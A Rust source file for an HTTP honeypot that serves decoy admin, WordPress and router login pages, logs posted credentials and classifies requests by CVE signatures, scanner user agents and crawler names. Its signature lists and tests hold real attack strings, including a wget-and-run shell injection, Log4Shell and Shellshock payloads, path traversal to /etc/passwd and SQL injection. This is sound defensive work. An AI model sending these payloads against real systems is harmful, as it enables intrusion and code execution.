//! The HTTP decoy: convincing login pages (a generic admin panel, WordPress, a home router) and
//! answers on the paths scanners probe, every request recorded (method, target, headers, user
//! agent, posted credentials with the body capped) and classified: a credential attempt, an
//! exploit attempt (with its CVE or family where the request says), a scanner, a crawler.
//!
//! Limits: headers (size and count, hyper's), the time to send them (slowloris) and the body
//! (size and time), connections per address and in all; what is refused is counted. Nothing in
//! a request is ever executed or fetched.

use crate::event::{cap, now_micros, session_id, HpEvent, Sink, What};
use bytes::Bytes;
use http_body_util::{BodyExt, Full};
use hyper::body::Incoming;
use hyper::{Request, Response, StatusCode};
use std::net::SocketAddr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;
use tokio::net::TcpListener;

/// Which login page the decoy shows at `/`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Profile {
    /// A generic web admin panel.
    Admin,
    /// WordPress (`/wp-login.php`, `/wp-admin/`, `/xmlrpc.php`).
    Wordpress,
    /// A home router's web interface.
    Router,
}

impl Profile {
    pub fn from_name(s: &str) -> Option<Profile> {
        Some(match s {
            "admin" => Profile::Admin,
            "wordpress" => Profile::Wordpress,
            "router" => Profile::Router,
            _ => return None,
        })
    }
}

/// The HTTP decoy's settings (`[honeypot.http]`).
#[derive(Debug, Clone)]
pub struct HttpSettings {
    pub profile: Profile,
    /// The `Server` header.
    pub server: String,
    /// Body bytes kept (the rest is read and dropped, up to `max_body_read`).
    pub max_body: usize,
    /// Body bytes read at most; beyond, the connection is closed (413).
    pub max_body_read: usize,
    /// Time to send the request head (slowloris), and the body.
    pub header_timeout: Duration,
    pub body_timeout: Duration,
    pub max_per_ip: usize,
    pub max_total: usize,
}

impl Default for HttpSettings {
    fn default() -> Self {
        HttpSettings {
            profile: Profile::Admin,
            server: "Apache/2.4.62 (Debian)".into(),
            max_body: 16 * 1024,
            max_body_read: 1024 * 1024,
            header_timeout: Duration::from_secs(10),
            body_timeout: Duration::from_secs(10),
            max_per_ip: 32,
            max_total: 4096,
        }
    }
}

/// What a request was taken for.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Class {
    /// `credential`, `exploit`, `scanner`, `crawler` or `other`.
    pub kind: &'static str,
    /// The CVE or family of an exploit, what a scanner looked for, the crawler's name.
    pub detail: &'static str,
}

/// Exploit signatures by what the target (path and query, lowercased, percent-decoded once)
/// holds: the CVE where the path names one product's hole, else the family.
const EXPLOITS: &[(&str, &str)] = &[
    ("/cgi-bin/.%2e/", "CVE-2021-41773"),
    ("/cgi-bin/%%32%65", "CVE-2021-42013"),
    ("/icons/.%2e/", "CVE-2021-41773"),
    ("/gponform/diag_form", "CVE-2018-10562"),
    ("/boaform/admin/formping", "boa-formping-command-injection"),
    ("/cgi-bin/luci/;stok=/locale", "CVE-2023-1389"),
    (
        "/vendor/phpunit/phpunit/src/util/php/eval-stdin.php",
        "CVE-2017-9841",
    ),
    (
        "invokefunction&function=call_user_func_array",
        "CVE-2018-20062",
    ),
    ("/actuator/gateway/routes", "CVE-2022-22947"),
    ("/remote/fgt_lang?lang=", "CVE-2018-13379"),
    ("/+cscot+/translation-table", "CVE-2020-3452"),
    ("/vpn/../vpns/", "CVE-2019-19781"),
    ("/autodiscover/autodiscover.json?@", "CVE-2021-34473"),
    (
        "/setup.cgi?next_file=netgear.cfg",
        "netgear-setup-cgi-command-injection",
    ),
    ("/hnap1/", "hnap-command-injection"),
    ("/shell?", "shell-endpoint-command-injection"),
    (
        "/ws/v1/cluster/apps/new-application",
        "hadoop-yarn-unauthenticated-rce",
    ),
    ("/_ignition/execute-solution", "CVE-2021-3129"),
    ("/solr/admin/cores?action=create", "solr-core-creation"),
    ("/index.php?s=/index/\\think", "CVE-2018-20062"),
    ("/cgi-bin/config.exp", "sonicwall-config-exposure"),
];

/// Families found anywhere in the target, the headers or the body.
const ANYWHERE: &[(&str, &str)] = &[
    ("${jndi:", "CVE-2021-44228"),
    ("() { :; };", "CVE-2014-6271"),
    ("() { :;};", "CVE-2014-6271"),
];

/// What is probed for by path: secrets left on web servers, admin tools, status pages.
const PROBES: &[(&str, &str)] = &[
    ("/.env", "dotenv"),
    ("/.git/", "git-repository"),
    ("/.aws/", "cloud-credentials"),
    ("/.ssh/", "ssh-keys"),
    ("/.ds_store", "ds-store"),
    ("/.svn/", "svn-repository"),
    ("/wp-config.php", "wordpress-config"),
    ("/phpmyadmin", "phpmyadmin"),
    ("/pma/", "phpmyadmin"),
    ("/myadmin/", "phpmyadmin"),
    ("/actuator", "spring-actuator"),
    ("/server-status", "apache-status"),
    ("/phpinfo.php", "phpinfo"),
    ("/info.php", "phpinfo"),
    ("/config.json", "config-file"),
    ("/backup", "backup-file"),
    (".sql", "database-dump"),
    ("/manager/html", "tomcat-manager"),
    ("/console/", "admin-console"),
    ("/solr/", "solr"),
    ("/owa/", "exchange"),
    ("/cgi-bin/", "cgi"),
    ("/boaform/", "boa-router"),
    ("/wp-admin", "wordpress"),
    ("/wp-includes", "wordpress"),
    ("/xmlrpc.php", "wordpress"),
    ("/wp-login.php", "wordpress"),
    ("/admin", "admin-panel"),
    ("/login", "login-page"),
];

/// User agents of tools, by a word they carry.
const SCANNER_AGENTS: &[&str] = &[
    "zgrab",
    "masscan",
    "nmap",
    "nuclei",
    "sqlmap",
    "nikto",
    "gobuster",
    "dirbuster",
    "ffuf",
    "wpscan",
    "censysinspect",
    "expanse",
    "l9explore",
    "go-http-client",
    "python-requests",
    "python-urllib",
    "libwww-perl",
    "curl/",
    "wget/",
    "httpx",
    "fuzz",
];

/// Crawlers, by a word of their user agent.
const CRAWLERS: &[&str] = &[
    "googlebot",
    "bingbot",
    "yandexbot",
    "baiduspider",
    "duckduckbot",
    "applebot",
    "ahrefsbot",
    "semrushbot",
    "mj12bot",
    "petalbot",
    "facebookexternalhit",
    "slurp",
];

/// `%xx` decoded once (invalid escapes kept), for matching only.
fn percent_decoded(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%' && i + 2 < b.len() {
            let hex = |c: u8| (c as char).to_digit(16);
            if let (Some(h), Some(l)) = (hex(b[i + 1]), hex(b[i + 2])) {
                out.push((h * 16 + l) as u8);
                i += 3;
                continue;
            }
        }
        out.push(b[i]);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Whether a request posts credentials, and which: the fields login forms use.
pub fn credentials(target: &str, body: &[u8]) -> Option<(String, String)> {
    let text = String::from_utf8_lossy(body);
    let mut user = None;
    let mut pass = None;
    let form = text
        .split('&')
        .chain(target.split_once('?').map_or("", |(_, q)| q).split('&'));
    for pair in form {
        let (k, v) = pair.split_once('=').unwrap_or((pair, ""));
        let v = percent_decoded(&v.replace('+', " "));
        match k.to_ascii_lowercase().as_str() {
            "log" | "username" | "user" | "login" | "pma_username" | "email" | "uname" | "usr" => {
                user = Some(v)
            }
            "pwd" | "password" | "pass" | "passwd" | "pma_password" | "psw" | "pword" => {
                pass = Some(v)
            }
            _ => {}
        }
    }
    // XML-RPC brute force: wp.getUsersBlogs with the pair as its first two strings
    if user.is_none() && text.contains("<methodName>wp.getUsersBlogs</methodName>") {
        let strings: Vec<&str> = text
            .split("<string>")
            .skip(1)
            .filter_map(|s| s.split("</string>").next())
            .take(2)
            .collect();
        if let [u, p] = strings[..] {
            user = Some(u.to_owned());
            pass = Some(p.to_owned());
        }
    }
    match (user, pass) {
        (Some(u), Some(p)) => Some((cap(&u, 255), cap(&p, 255))),
        (None, Some(p)) => Some((String::new(), cap(&p, 255))),
        _ => None,
    }
}

/// What a request was taken for, from its method, target, headers and body.
pub fn classify(method: &str, target: &str, headers: &[(String, String)], body: &[u8]) -> Class {
    let posted = method.eq_ignore_ascii_case("POST") && credentials(target, body).is_some();
    classify_with(target, headers, body, posted)
}

/// [`classify`], told whether the request posted credentials (its caller read them already).
fn classify_with(target: &str, headers: &[(String, String)], body: &[u8], posted: bool) -> Class {
    let raw = target.to_ascii_lowercase();
    let t = percent_decoded(&raw);
    let header_text: String = headers
        .iter()
        .map(|(k, v)| format!("{k}: {v}\n"))
        .collect::<String>()
        .to_ascii_lowercase();
    let body_text =
        String::from_utf8_lossy(&body[..body.len().min(16 * 1024)]).to_ascii_lowercase();
    for (sig, what) in ANYWHERE {
        if t.contains(sig) || header_text.contains(sig) || body_text.contains(sig) {
            return Class {
                kind: "exploit",
                detail: what,
            };
        }
    }
    for (sig, what) in EXPLOITS {
        if raw.contains(sig) || t.contains(sig) {
            return Class {
                kind: "exploit",
                detail: what,
            };
        }
    }
    // generic families: traversal, command injection, SQL injection
    let generic = [
        (
            t.contains("../") || t.contains("..\\") || raw.contains("%2e%2e"),
            "path-traversal",
        ),
        (
            [
                "; wget ",
                ";wget ",
                "|sh",
                "| sh",
                "$(",
                "`",
                ";curl ",
                "; curl ",
                "busybox",
                "chmod 777",
                "/bin/sh",
            ]
            .iter()
            .any(|s| t.contains(s) || body_text.contains(s)),
            "command-injection",
        ),
        (
            [
                "union select",
                "' or '1'='1",
                "\" or \"1\"=\"1",
                "sleep(",
                "benchmark(",
                "information_schema",
            ]
            .iter()
            .any(|s| t.contains(s) || body_text.contains(s)),
            "sql-injection",
        ),
        (
            t.contains("<script") || t.contains("javascript:"),
            "cross-site-scripting",
        ),
    ];
    if let Some((_, what)) = generic.iter().find(|g| g.0) {
        return Class {
            kind: "exploit",
            detail: what,
        };
    }
    if posted {
        return Class {
            kind: "credential",
            detail: "login-form",
        };
    }
    if headers.iter().any(|(k, v)| {
        k.eq_ignore_ascii_case("authorization") && v.to_ascii_lowercase().starts_with("basic ")
    }) {
        return Class {
            kind: "credential",
            detail: "basic-auth",
        };
    }
    let agent = headers
        .iter()
        .find(|(k, _)| k.eq_ignore_ascii_case("user-agent"))
        .map(|(_, v)| v.to_ascii_lowercase())
        .unwrap_or_default();
    if let Some(c) = CRAWLERS.iter().find(|c| agent.contains(*c)) {
        return Class {
            kind: "crawler",
            detail: c,
        };
    }
    let path = t.split('?').next().unwrap_or("");
    if let Some((_, what)) = PROBES.iter().find(|(p, _)| path.contains(p)) {
        return Class {
            kind: "scanner",
            detail: what,
        };
    }
    if agent.is_empty() {
        return Class {
            kind: "scanner",
            detail: "no-user-agent",
        };
    }
    if let Some(s) = SCANNER_AGENTS.iter().find(|s| agent.contains(*s)) {
        return Class {
            kind: "scanner",
            detail: s.trim_end_matches('/'),
        };
    }
    if path == "/robots.txt" || path == "/sitemap.xml" {
        return Class {
            kind: "crawler",
            detail: "robots",
        };
    }
    Class {
        kind: "other",
        detail: "",
    }
}

/// Bytes of request headers accepted (hyper's own buffer cap refuses larger heads sooner or
/// later; this makes the line exact).
const MAX_HEAD_BYTES: usize = 32 * 1024;

/// Counters of what the decoy saw and refused.
#[derive(Debug, Default)]
pub struct HttpStats {
    pub requests: AtomicU64,
    pub refused: AtomicU64,
    pub bodies_cut: AtomicU64,
    pub too_large: AtomicU64,
}

struct Shared {
    settings: HttpSettings,
    sink: Arc<dyn Sink>,
    stats: Arc<HttpStats>,
    slots: Arc<crate::event::Slots>,
}

/// The HTTP decoy.
#[derive(Clone)]
pub struct HttpHoneypot {
    shared: Arc<Shared>,
}

impl HttpHoneypot {
    pub fn new(settings: HttpSettings, sink: Arc<dyn Sink>) -> HttpHoneypot {
        HttpHoneypot {
            shared: Arc::new(Shared {
                slots: crate::event::Slots::new(settings.max_per_ip, settings.max_total),
                settings,
                sink,
                stats: Arc::default(),
            }),
        }
    }

    pub fn stats(&self) -> Arc<HttpStats> {
        self.shared.stats.clone()
    }

    /// Serve on `listener` until `stop` resolves.
    pub async fn serve(
        &self,
        listener: TcpListener,
        stop: impl std::future::Future<Output = ()>,
    ) -> std::io::Result<()> {
        crate::event::accept_until(&listener, stop, |stream, src, dst| {
            let sh = self.shared.clone();
            let Ok(slot) = sh.slots.take(src.ip()) else {
                sh.stats.refused.fetch_add(1, Ordering::Relaxed);
                return; // dropped: closed
            };
            tokio::spawn(async move {
                let session = session_id();
                let svc = {
                    let sh = sh.clone();
                    hyper::service::service_fn(move |req| {
                        let sh = sh.clone();
                        let session = session.clone();
                        async move {
                            Ok::<_, std::convert::Infallible>(
                                handle(&sh, req, src, dst, session).await,
                            )
                        }
                    })
                };
                let mut http = hyper::server::conn::http1::Builder::new();
                http.timer(hyper_util::rt::TokioTimer::new())
                    .header_read_timeout(sh.settings.header_timeout)
                    .max_buf_size(64 * 1024)
                    .max_headers(100);
                let io = hyper_util::rt::TokioIo::new(stream);
                let _ = http.serve_connection(io, svc).await;
                drop(slot);
            });
        })
        .await
    }
}

async fn handle(
    sh: &Shared,
    req: Request<Incoming>,
    src: SocketAddr,
    dst: SocketAddr,
    session: String,
) -> Response<Full<Bytes>> {
    let st = &sh.stats;
    st.requests.fetch_add(1, Ordering::Relaxed);
    let method = req.method().as_str().to_owned();
    let target = req
        .uri()
        .path_and_query()
        .map_or("/".to_owned(), |p| p.as_str().to_owned());
    // hyper refuses a head past its buffer (431); what it let through is held to this too
    let head_bytes: usize = req
        .headers()
        .iter()
        .map(|(k, v)| k.as_str().len() + v.len() + 4)
        .sum();
    if head_bytes > MAX_HEAD_BYTES {
        st.too_large.fetch_add(1, Ordering::Relaxed);
        sh.sink.event(HpEvent {
            ts: now_micros(),
            sensor: "http",
            session,
            src,
            dst,
            what: What::Limit { what: "headers" },
        });
        return respond(
            sh,
            StatusCode::REQUEST_HEADER_FIELDS_TOO_LARGE,
            "text/html",
            page_error(400),
            true,
        );
    }
    let headers: Vec<(String, String)> = req
        .headers()
        .iter()
        .take(64)
        .map(|(k, v)| {
            (
                k.as_str().to_owned(),
                cap(&String::from_utf8_lossy(v.as_bytes()), 1024),
            )
        })
        .collect();
    // the body: kept up to max_body, read up to max_body_read, within body_timeout
    let mut body = Vec::new();
    let mut read = 0usize;
    let mut incoming = req.into_body();
    let mut too_large = false;
    let reading = async {
        while let Some(frame) = incoming.frame().await {
            let Ok(frame) = frame else { break };
            if let Some(d) = frame.data_ref() {
                read += d.len();
                let room = sh.settings.max_body.saturating_sub(body.len());
                body.extend_from_slice(&d[..d.len().min(room)]);
                if read > sh.settings.max_body_read {
                    too_large = true;
                    break;
                }
            }
        }
    };
    let timed_out = tokio::time::timeout(sh.settings.body_timeout, reading)
        .await
        .is_err();
    if read > body.len() {
        st.bodies_cut.fetch_add(1, Ordering::Relaxed);
    }
    // the credentials are read once: for the class, and for the login event
    let creds = method
        .eq_ignore_ascii_case("POST")
        .then(|| credentials(&target, &body))
        .flatten();
    let class = classify_with(&target, &headers, &body, creds.is_some());
    let agent = headers
        .iter()
        .find(|(k, _)| k == "user-agent")
        .map(|(_, v)| v.clone())
        .unwrap_or_default();
    let emit = |what| {
        sh.sink.event(HpEvent {
            ts: now_micros(),
            sensor: "http",
            session: session.clone(),
            src,
            dst,
            what,
        })
    };
    emit(What::Http {
        method: cap(&method, 16),
        target: cap(&target, 2048),
        user_agent: cap(&agent, 512),
        headers: headers
            .iter()
            .map(|(k, v)| (cap(k, 64), cap(v, 256)))
            .take(32)
            .collect(),
        class: class.kind,
        detail: class.detail,
        body_bytes: read,
    });
    if let (Some((user, password)), true) = (&creds, method == "POST") {
        emit(What::Login {
            user: user.clone(),
            password: Some(password.clone()),
            key_fingerprint: None,
            success: false,
            client: None,
        });
    }
    if too_large || timed_out {
        st.too_large.fetch_add(1, Ordering::Relaxed);
        emit(What::Limit {
            what: if timed_out { "body_time" } else { "body_size" },
        });
        return respond(
            sh,
            StatusCode::PAYLOAD_TOO_LARGE,
            "text/html",
            page_error(413),
            true,
        );
    }
    let path = target.split('?').next().unwrap_or("/");
    let (status, kind, page) = pages::answer(sh.settings.profile, &method, path, creds.is_some());
    respond(sh, status, kind, page, false)
}

fn respond(
    sh: &Shared,
    status: StatusCode,
    kind: &str,
    body: String,
    close: bool,
) -> Response<Full<Bytes>> {
    let mut r = Response::builder()
        .status(status)
        .header("Server", sh.settings.server.as_str())
        .header("Content-Type", kind);
    if close {
        r = r.header("Connection", "close");
    }
    r.body(Full::new(Bytes::from(body)))
        .unwrap_or_else(|_| Response::new(Full::new(Bytes::new())))
}

fn page_error(code: u16) -> String {
    let (title, text) = match code {
        404 => ("404 Not Found", "The requested URL was not found on this server."),
        403 => ("403 Forbidden", "You don't have permission to access this resource."),
        413 => ("413 Request Entity Too Large", "The requested resource does not allow request data with this method, or the amount of data provided exceeds the capacity limit."),
        _ => ("400 Bad Request", "Your browser sent a request that this server could not understand."),
    };
    format!(
        "<!DOCTYPE HTML PUBLIC \"-//IETF//DTD HTML 2.0//EN\">\n<html><head>\n<title>{title}</title>\n</head><body>\n<h1>{}</h1>\n<p>{text}</p>\n</body></html>\n",
        &title[4..]
    )
}

/// The pages: written for the project (no other project's pages or text).
mod pages {
    use super::{page_error, Profile};
    use hyper::StatusCode;

    const STYLE: &str = "body{font-family:Arial,Helvetica,sans-serif;background:#eef1f4;margin:0}\
        .box{width:320px;margin:120px auto;background:#fff;padding:28px;border-radius:4px;\
        box-shadow:0 1px 3px rgba(0,0,0,.2)}input{width:100%;padding:8px;margin:6px 0 14px;\
        box-sizing:border-box}button{width:100%;padding:9px;background:#2b5f9e;color:#fff;border:0}\
        .err{color:#b00;font-size:13px}";

    fn admin(failed: bool) -> String {
        let err = if failed {
            "<p class=\"err\">Invalid username or password.</p>"
        } else {
            ""
        };
        format!(
            "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Administration - Sign in</title>\
             <style>{STYLE}</style></head><body><div class=\"box\"><h2>Administration</h2>{err}\
             <form method=\"post\" action=\"/login\"><label>Username</label><input name=\"username\" autofocus>\
             <label>Password</label><input type=\"password\" name=\"password\"><button>Sign in</button></form>\
             </div></body></html>"
        )
    }

    fn wordpress(failed: bool) -> String {
        let err = if failed {
            "<div id=\"login_error\"><strong>Error:</strong> the username or password you entered is not correct.</div>"
        } else {
            ""
        };
        format!(
            "<!DOCTYPE html><html lang=\"en-US\"><head><meta charset=\"UTF-8\"><title>Log In &lsaquo; Blog &#8212; WordPress</title>\
             <meta name=\"robots\" content=\"max-image-preview:large, noindex, noarchive\">\
             <link rel=\"stylesheet\" href=\"/wp-includes/css/buttons.min.css?ver=6.6.2\" media=\"all\">\
             <style>{STYLE}</style></head><body class=\"login no-js login-action-login wp-core-ui\"><div id=\"login\" class=\"box\">\
             <h1><a href=\"https://wordpress.org/\">Powered by WordPress</a></h1>{err}\
             <form name=\"loginform\" id=\"loginform\" action=\"/wp-login.php\" method=\"post\">\
             <p><label for=\"user_login\">Username or Email Address</label><input type=\"text\" name=\"log\" id=\"user_login\"></p>\
             <p><label for=\"user_pass\">Password</label><input type=\"password\" name=\"pwd\" id=\"user_pass\"></p>\
             <p class=\"submit\"><input type=\"submit\" name=\"wp-submit\" id=\"wp-submit\" value=\"Log In\">\
             <input type=\"hidden\" name=\"redirect_to\" value=\"/wp-admin/\"><input type=\"hidden\" name=\"testcookie\" value=\"1\"></p>\
             </form></div></body></html>"
        )
    }

    fn router(failed: bool) -> String {
        let err = if failed {
            "<p class=\"err\">Login failed. Please check the user name and password.</p>"
        } else {
            ""
        };
        format!(
            "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Wireless Router - Login</title>\
             <style>{STYLE}</style></head><body><div class=\"box\"><h2>Wireless N Router</h2>{err}\
             <form method=\"post\" action=\"/boaform/admin/formLogin\"><label>User Name</label><input name=\"username\" value=\"admin\">\
             <label>Password</label><input type=\"password\" name=\"psd\"><button>Login</button></form>\
             <p style=\"font-size:11px;color:#888\">Firmware Version: V2.1.8 Build 20190412</p></div></body></html>"
        )
    }

    /// The answer to a request: status, content type, body.
    pub fn answer(
        profile: Profile,
        method: &str,
        path: &str,
        posted: bool,
    ) -> (StatusCode, &'static str, String) {
        let html = "text/html; charset=UTF-8";
        let p = path.to_ascii_lowercase();
        let login = |failed| match profile {
            Profile::Admin => admin(failed),
            Profile::Wordpress => wordpress(failed),
            Profile::Router => router(failed),
        };
        if p == "/wp-login.php" || p.starts_with("/wp-admin") {
            return (StatusCode::OK, html, wordpress(posted));
        }
        if p == "/xmlrpc.php" {
            return if method == "POST" {
                (
                    StatusCode::OK,
                    "text/xml; charset=UTF-8",
                    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<methodResponse><fault><value><struct>\
                     <member><name>faultCode</name><value><int>403</int></value></member>\
                     <member><name>faultString</name><value><string>Incorrect username or password.</string></value></member>\
                     </struct></value></fault></methodResponse>\n"
                        .into(),
                )
            } else {
                (
                    StatusCode::METHOD_NOT_ALLOWED,
                    "text/plain; charset=UTF-8",
                    "XML-RPC server accepts POST requests only.".into(),
                )
            };
        }
        if p.starts_with("/boaform") || p == "/login.asp" || p == "/cgi-bin/luci" {
            return (StatusCode::OK, html, router(posted));
        }
        if p.starts_with("/phpmyadmin") || p.starts_with("/pma") {
            return (StatusCode::OK, html, admin(posted));
        }
        if p == "/"
            || p == "/login"
            || p == "/admin"
            || p.starts_with("/admin/")
            || p == "/index.html"
            || p == "/index.php"
        {
            return (StatusCode::OK, html, login(posted));
        }
        if p == "/robots.txt" {
            return (
                StatusCode::OK,
                "text/plain",
                "User-agent: *\nDisallow: /admin/\n".into(),
            );
        }
        if p.starts_with("/.") || p.contains("/.git") || p.ends_with(".sql") {
            return (StatusCode::FORBIDDEN, html, page_error(403));
        }
        (StatusCode::NOT_FOUND, html, page_error(404))
    }
}

/// Classifies arbitrary bytes as a request (for the fuzz target): the first line is `METHOD
/// TARGET`, header lines follow up to an empty line, the rest is the body. It must never panic.
pub fn fuzz(data: &[u8]) {
    let text = String::from_utf8_lossy(data);
    let (head, body) = match text.split_once("\n\n") {
        Some((h, b)) => (h, b.as_bytes()),
        None => (&*text, &[][..]),
    };
    let mut lines = head.lines();
    let first = lines.next().unwrap_or("");
    let (method, target) = first.split_once(' ').unwrap_or((first, "/"));
    let headers: Vec<(String, String)> = lines
        .take(64)
        .map(|l| {
            let (k, v) = l.split_once(':').unwrap_or((l, ""));
            (k.trim().to_owned(), v.trim().to_owned())
        })
        .collect();
    let _ = classify(method, target, &headers, body);
    let _ = credentials(target, body);
}

#[cfg(test)]
mod tests {
    use super::*;

    fn h(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
        pairs
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect()
    }

    #[test]
    fn exploits_are_named_by_cve_or_family() {
        let ua = h(&[("user-agent", "Mozilla/5.0")]);
        for (method, target, want) in [
            ("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "CVE-2021-41773"),
            ("POST", "/GponForm/diag_Form?images/", "CVE-2018-10562"),
            ("GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "CVE-2017-9841"),
            ("GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5", "CVE-2018-20062"),
            ("GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/x;sh+/tmp/x", "shell-endpoint-command-injection"),
            ("GET", "/download?file=../../../../etc/passwd", "path-traversal"),
            ("GET", "/item?id=1%20UNION%20SELECT%20password%20FROM%20users", "sql-injection"),
            ("GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)", "CVE-2023-1389"),
        ] {
            let c = classify(method, target, &ua, b"");
            assert_eq!((c.kind, c.detail), ("exploit", want), "{target}");
        }
        let log4j = classify("GET", "/", &h(&[("user-agent", "${jndi:ldap://x/a}")]), b"");
        assert_eq!(log4j.detail, "CVE-2021-44228");
        let shellshock = classify(
            "GET",
            "/cgi-bin/status",
            &h(&[("referer", "() { :; }; /bin/bash -c id")]),
            b"",
        );
        assert_eq!(shellshock.detail, "CVE-2014-6271");
    }

    #[test]
    fn logins_scanners_and_crawlers_are_told_apart() {
        let ua = h(&[("user-agent", "Mozilla/5.0")]);
        let wp = classify(
            "POST",
            "/wp-login.php",
            &ua,
            b"log=admin&pwd=admin123&wp-submit=Log+In",
        );
        assert_eq!((wp.kind, wp.detail), ("credential", "login-form"));
        assert_eq!(
            credentials("/wp-login.php", b"log=admin&pwd=p%40ss+word"),
            Some(("admin".into(), "p@ss word".into()))
        );
        let xmlrpc = b"<methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value><string>editor</string></value></param><param><value><string>qwerty</string></value></param></params></methodCall>";
        assert_eq!(
            credentials("/xmlrpc.php", xmlrpc),
            Some(("editor".into(), "qwerty".into()))
        );
        assert_eq!(classify("GET", "/.env", &ua, b"").detail, "dotenv");
        assert_eq!(
            classify("GET", "/.git/config", &ua, b"").detail,
            "git-repository"
        );
        assert_eq!(
            classify("GET", "/", &h(&[("user-agent", "zgrab/0.x")]), b"").kind,
            "scanner"
        );
        assert_eq!(classify("GET", "/", &h(&[]), b"").detail, "no-user-agent");
        let bot = classify(
            "GET",
            "/",
            &h(&[("user-agent", "Mozilla/5.0 (compatible; Googlebot/2.1)")]),
            b"",
        );
        assert_eq!((bot.kind, bot.detail), ("crawler", "googlebot"));
        assert_eq!(classify("GET", "/about", &ua, b"").kind, "other");
        let basic = classify(
            "GET",
            "/manager/html",
            &h(&[("authorization", "Basic YWRtaW46YWRtaW4=")]),
            b"",
        );
        assert_eq!(basic.kind, "credential");
    }

    #[test]
    fn hostile_targets_never_panic() {
        for t in [
            "%",
            "%%",
            "%zz",
            "/%e2%82",
            "/\u{0}",
            &"/%41".repeat(10_000),
            "?=&=&&==",
            "/a?log=&pwd",
        ] {
            let _ = classify("POST", t, &[], t.as_bytes());
            let _ = credentials(t, t.as_bytes());
            let _ = percent_decoded(t);
        }
        assert_eq!(percent_decoded("a%41%zz%4"), "aA%zz%4");
    }
}
